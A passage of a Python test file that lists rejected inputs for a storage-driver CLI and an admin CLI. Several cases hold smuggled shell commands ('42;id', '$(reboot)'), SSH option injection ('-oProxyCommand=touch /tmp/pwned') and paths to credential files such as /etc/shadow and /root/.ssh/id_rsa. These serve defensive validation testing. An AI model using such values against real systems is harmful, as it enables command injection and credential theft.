        ("timeout with newline", ["has", "--cid", CID, "--timeout", "5\n"], "timeout"),
        ("timeout with blanks", ["has", "--cid", CID, "--timeout", " 30 "], "timeout"),
        ("mode unknown", ["fetch", "--cid", CID, "--disk", HOST_DISK, "--mode", "link"], "must be one of"),
        (
            "format with option",
            ["fetch", "--cid", CID, "--disk", HOST_DISK, "--format", "qcow2 -o x"],
            "must be one of",
        ),
        ("vm id with shell", ["fetch", "--cid", CID, "--disk", HOST_DISK, "--vm", "42;id"], "whole number"),
        (
            "monitor tm with newline",
            ["fetch", "--cid", CID, "--disk", HOST_DISK, "--monitor-tm", "ssh\n"],
            "transfer driver name",
        ),
        (
            "monitor tm with shell",
            ["monitor-marker", "--dir", "{host}/datastores/0/42", "--tm", "ssh;id"],
            "transfer driver name",
        ),
        ("cache dir outside", ["fetch", "--cid", CID, "--disk", HOST_DISK, "--cache-dir", "/tmp"], "outside"),
        (
            "cache size negative",
            ["fetch", "--cid", CID, "--disk", HOST_DISK, "--cache-max-mb", "-5"],
            "whole number",
        ),
        ("abbreviated field", ["fetch", "--ci", CID, "--disk", HOST_DISK], "unknown field"),
        (
            "unknown field",
            ["fetch", "--cid", CID, "--disk", HOST_DISK, "--exec", "sh"],
            "unknown field",
        ),
        (
            "prefetch cid is an option",
            ["prefetch", "--cid", "-oX", "--disk", HOST_DISK],
            "not a valid CID",
        ),
        ("prefetch disk elsewhere", ["prefetch", "--cid", CID, "--disk", "/root/.ssh/id_rsa"], "VM folder"),
        (
            "prefetch mode unknown",
            ["prefetch", "--cid", CID, "--disk", HOST_DISK, "--mode", "x;id"],
            "must be one of",
        ),
        ("warm cid with a shell", ["warm", "--cid", f"{CID};reboot"], "CID"),
        ("warm cache size negative", ["warm", "--cid", CID, "--cache-max-mb", "-1"], "cache"),
        ("save disk elsewhere", ["save", "--disk", "/etc/shadow", "--format", "raw"], "VM folder"),
        (
            "save chunker rabin",
            ["save", "--disk", HOST_DISK, "--format", "raw", "--chunker", "rabin"],
            "chunker",
        ),
        (
            "save chunker with newline",
            ["save", "--disk", HOST_DISK, "--format", "raw", "--chunker", "size-1\n"],
            "chunker",
        ),
        (
            "save hash with newline",
            ["save", "--disk", HOST_DISK, "--format", "raw", "--hash", "sha2-256\n"],
            "hash function",
        ),
        (
            "save cid version 2",
            ["save", "--disk", HOST_DISK, "--format", "raw", "--cid-version", "2"],
            "must be one of",
        ),
        (
            "save raw leaves maybe",
            ["save", "--disk", HOST_DISK, "--format", "raw", "--raw-leaves", "maybe"],
            "true or false",
        ),
        ("delete root", ["delete", "--dir", "{host}"], "not a VM folder"),
        ("delete datastores", ["delete", "--dir", "{host}/datastores"], "not a VM folder"),
        ("delete folder with newline", ["delete", "--dir", "{host}/datastores/0/42\n"], "absolute path"),
        ("delete ssh keys", ["delete", "--disk", "{host}/.ssh/authorized_keys"], "not a disk in a VM folder"),
        (
            "delete both disk and dir",
            ["delete", "--disk", HOST_DISK, "--dir", "{host}/datastores/0/42"],
            "unknown field",
        ),
        ("release without vm", ["release"], "required"),
        ("release vm negative", ["release", "--vm", "-1"], "whole number"),
        ("snapshot id negative", ["snapshot-create", "--disk", HOST_DISK, "--snap-id", "-1"], "whole number"),
        ("snapshot id shell", ["snapshot-revert", "--disk", HOST_DISK, "--snap-id", "1;id"], "whole number"),
        (
            "snapshot id absurd",
            ["snapshot-delete", "--disk", HOST_DISK, "--snap-id", "9" * 20],
            "whole number",
        ),
        ("resize to zero", ["resize", "--disk", HOST_DISK, "--size-mb", "0"], "between"),
        ("resize absurd", ["resize", "--disk", HOST_DISK, "--size-mb", str(1 << 40)], "between"),
        ("evict keep negative", ["cache-evict", "--keep-mb", "-1"], "whole number"),
        ("status cache outside", ["cache-status", "--cache-dir", "/etc"], "outside"),
    ]
]

# --------------------------------------------------------------------------------- admin CLI

ADMIN_CASES: list[Case] = [
    Case(name, "admin " + words[0], tuple(words), reason)
    for name, words, reason in [
        ("host is an ssh option", ["doctor", "--hosts", "-oProxyCommand=touch /tmp/pwned"], NOT_HOST),
        ("host with shell", ["doctor", "--hosts", "h1;reboot"], NOT_HOST),
        ("host with user", ["network", "status", "--hosts", "root@h1"], NOT_HOST),
        ("host with unicode", ["network", "status", "--hosts", "h\u0131"], NOT_HOST),
        ("host with console markup", ["network", "status", "--hosts", "[/red][blink]h1"], NOT_HOST),
        ("second host is an option", ["network", "init", "--hosts", "h1,-F/etc/shadow"], NOT_HOST),
        ("new host is an option", ["network", "join", "--hosts", "h1", "--", "-oProxyCommand=x"], NOT_HOST),
        ("new host with newline", ["network", "join", "--hosts", "h1", "h2\nh3"], NOT_HOST),
        (
            "address with shell",
            ["network", "init", "--hosts", "h1", "--address", "1.2.3.4;reboot"],
            "IPv4 address",
        ),
        (
            "python with a new line",
            ["install", "--python", '/usr/bin/python3"\nIPFS_API="x'],
            "--python must be",
        ),
        ("python with command substitution", ["install", "--python", "$(reboot)"], "--python must be"),
        (
            "address is a multiaddr",
            ["network", "init", "--hosts", "h1", "--address", "1.2.3.4/tcp/1/p2p-circuit"],
            "IPv4 address",
        ),
    ]
]

ALL_CASES: list[Case] = [*DS_CASES, *TM_CASES, *HOST_CASES, *ADMIN_CASES]
